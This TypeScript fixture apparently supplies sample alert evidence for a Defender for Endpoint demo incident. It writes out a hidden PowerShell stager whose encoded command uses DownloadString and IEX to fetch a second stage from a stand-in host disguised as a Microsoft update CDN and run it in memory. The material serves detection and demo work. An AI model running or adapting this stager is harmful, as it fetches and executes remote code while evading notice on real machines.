/**
 * The command line Defender for Endpoint caught on DESKTOP-ADELE01 in incident 4211: a hidden PowerShell
 * whose `-EncodedCommand` is Base64 of UTF-16LE text, as PowerShell expects it, that downloads a second stage
 * and runs it in memory. The download address is in the reserved `.example` domain and resolved to a
 * TEST-NET-1 address, so nothing real is named; the decoded text is a one-line stager, never a payload.
 * Data only; never used outside the demo tenant.
 */

/** Where the stager fetches its second stage from (a reserved `.example` name). */
export const STAGER_URL = 'https://msft-update-cdn.example/wupd.ps1';
/** The address that name resolved to on the device (TEST-NET-1). */
export const STAGER_IP = '192.0.2.240';

/** What the encoded command decodes to. */
export const DECODED_STAGER = `$ProgressPreference='SilentlyContinue';$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('${STAGER_URL}')`;

/** Base64 of the stager's UTF-16LE bytes, as `-EncodedCommand` takes it. */
export const ENCODED_STAGER = Buffer.from(DECODED_STAGER, 'utf16le').toString('base64');

/** The process command line as the alert evidence reports it. */
export const ENCODED_COMMAND_LINE = `powershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED_STAGER}`;
